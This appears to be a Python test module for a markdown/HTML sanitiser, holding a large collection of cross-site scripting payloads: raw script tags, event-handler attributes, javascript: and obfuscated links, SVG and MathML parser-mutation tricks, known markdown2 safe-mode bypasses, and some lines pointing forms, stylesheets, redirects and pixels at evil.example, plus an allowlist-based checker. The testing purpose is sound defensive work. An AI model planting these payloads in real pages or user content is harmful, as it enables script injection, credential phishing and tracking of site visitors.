"""For tests only: texts that try to smuggle a script, or somebody's form or style, into a page.

And a judge of whether they did.
"""

import re
from html.parser import HTMLParser

from pygments.token import STANDARD_TYPES

RAW_HTML = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script\n>alert(1)</script\n>',
    '</p><script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<IMG SRC="/x" OnErRoR="alert(1)">',
    '<img/src="/x"/onerror=alert(1)>',
    '<img src=x onerror=alert(1) ',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe\nonload=alert(1)//',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)></form>',
    '<button form=f formaction="javascript:alert(1)">x</button>',
    '<style>body { background: url(https://evil.example/) }</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<dialog open>Sign in again: <input></dialog>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><script>alert(1)</script></textarea>',
    '<x-element onclick=alert(1)>x</x-element>',
    '<!--><script>alert(1)</script>-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<plaintext><script>alert(1)</script>',
]

ATTRIBUTES = [
    '<b onclick="alert(1)">x</b>',
    '<p onmouseover=alert(1) style="position:fixed;inset:0">x</p>',
    '<td style="text-align:left;background:url(https://evil.example/)">x</td>',
    '<table background="javascript:alert(1)"><tr><td align="left" onclick=alert(1)>x</table>',
    '<div class="danger highlight">x</div>',
    '<span class="k brand account">x</span>',
    '<a id="config" name="config" href="/x">clobbers a variable</a>',
    '<li id="comments">x</li><sup id="fn\n">x</sup>',
    '<a href="/x" target="_blank" rel="opener" ping="https://evil.example/">x</a>',
    '<img src="/x" srcset="javascript:alert(1)" usemap="#m">',
    '<ol start="1" type="a" onclick=alert(1)><li value=x>x</ol>',
    '<p/onclick=alert(1)//x>x</p>',
    '<a href="/x"onclick="alert(1)">x</a>',
    '<h1 contenteditable tabindex=1 onfocus=alert(1) autofocus>x</h1>',
    '<p is="x-element" slot="x" nonce="x" data-x="x" aria-hidden="true">x</p>',
]

LINKS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;cript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://example.com/x">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="/&Tab;/evil.example/">x</a>',
    '<a href="\\\\evil.example/">x</a>',
    '[x](javascript:alert(1))',
    '[x](<javascript:alert(1)>)',
    '[x](JAVASCRIPT&colon;alert(1))',
    '[x](java\u00adscript:alert(1))',
    '[x][y]\n\n[y]: javascript:alert(1) "title"',
    '<javascript:alert(1)>',
    '[x](https://example.com" onclick="alert(1))',
    '[x](https://example.com \'a" onclick="alert(1)\')',
    '[x](/y "<script>alert(1)</script>")',
]

IMAGES = [
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '![x](http://evil.example/pixel.gif)',
    '![x](//evil.example/pixel.gif)',
    '![" onerror="alert(1)](/x)',
    '![x](/y" onerror="alert(1))',
    '![x](/y "z" onerror="alert(1)")',
    '![x][y]\n\n[y]: /z" onerror="alert(1)',
]

# The sanitiser's parser and the browser's must not disagree about what is inside what.
MUTATIONS = [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
    '<svg><a><set attributeName="href" to="javascript:alert(1)"></set><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><desc><table><svg><style><a title="</style><img src=x onerror=alert(1)>">',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style>',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<math href="javascript:alert(1)">x</math>',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=alert(1) src>">',
    '<p title="--><img src=x onerror=alert(1)>"><!--',
    '<table><a href="javascript:alert(1)">x<tr><td><b></table><img src=x onerror=alert(1)>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<select><template><style><a title="</style><img src=x onerror=alert(1)>"></select>',
]

# markdown2 has known holes in its safe mode: the numbers are those of its issues.
MARKDOWN2 = [
    '<iframe\n<http:> srcdoc="<script>alert(1)</script>" a=',  # 694
    '`\n<img src onerror="alert(1)">\n[x]: `',  # 702
    '![A](B "<C D="E" onerror=alert(1) >")',  # 703
    "[x](javascript:alert('x'))\n\n![x](javascript:alert('x'))",  # 712
    '[x](javascript&#58alert(1))',  # 721
    '<http:|><x| oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>',  # 721
    '\\<!--<img src onerror=alert(1)//>-->',  # 721
    '[x](javascript&#058alert(1))',  # 726
    '<x![](`<a\n>`)><svg onload=alert(1)![](`<a\n>`)',  # 726
    '<http:[<script>alert(1);//]()><http:[</script>]()>',  # 341
    '<http://<iframe/onload=alert(1)//.example>',  # 362
    '```python" onclick="alert(1)\n<script>alert(1)</script>\n```',
    '```html\n<script>alert(1)</script>\n```',
    '    <script>alert(1)</script>',
    '`<script>alert(1)</script>`',
    '[^<script>]\n\n[^<script>]: <script>alert(1)</script>',
    '[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: x',
    '| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |',
    '~~<img src=x onerror=alert(1)>~~',
    '# <img src=x onerror=alert(1)>\n\n> <svg onload=alert(1)>\n\n- <script>alert(1)</script>',
]

PAYLOADS = [*RAW_HTML, *ATTRIBUTES, *LINKS, *IMAGES, *MUTATIONS, *MARKDOWN2]

TAGS = """
    a blockquote br code div em h1 h2 h3 h4 h5 h6 hr img li ol p pre s span strong sup
    table tbody td th thead tr ul
"""
VALUES = {
    ('a', 'href'): r'(https?://|mailto:|#|/(?!/)).*',
    ('a', 'rel'): r'nofollow noopener',
    ('a', 'title'): r'.*',
    ('div', 'class'): r'(highlight)?',
    ('img', 'alt'): r'.*',
    ('img', 'src'): r'(https://|/(?!/)).*',
    ('img', 'title'): r'.*',
    ('li', 'id'): r'fn.*',
    ('ol', 'start'): r'\d+',
    ('span', 'class'): '|'.join(STANDARD_TYPES.values()),
    ('sup', 'id'): r'fn.*',
    ('table', 'tabindex'): r'0',
    ('td', 'align'): r'left|center|right',
    ('th', 'align'): r'left|center|right',
}


class Judge(HTMLParser):
    """Reads a page as a browser does, and collects what should not be there."""

    def __init__(self, html):
        super().__init__()
        self.objections = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        if tag not in TAGS.split():
            self.objections.append(tag)
        for name, value in attributes:
            # A browser leaves these characters out of an address.
            seen = re.sub(r'[\t\n\r]', '', value or '').replace('\\', '/')
            if not re.fullmatch(VALUES.get((tag, name), '(?!)'), seen, re.DOTALL | re.IGNORECASE):
                self.objections.append((tag, name, value))

    def handle_comment(self, data):
        self.objections.append(f'<!--{data}')

    def handle_decl(self, decl):
        self.objections.append(f'<!{decl}')

    def handle_pi(self, data):
        self.objections.append(f'<?{data}')

    def unknown_decl(self, data):
        self.objections.append(f'<![{data}')
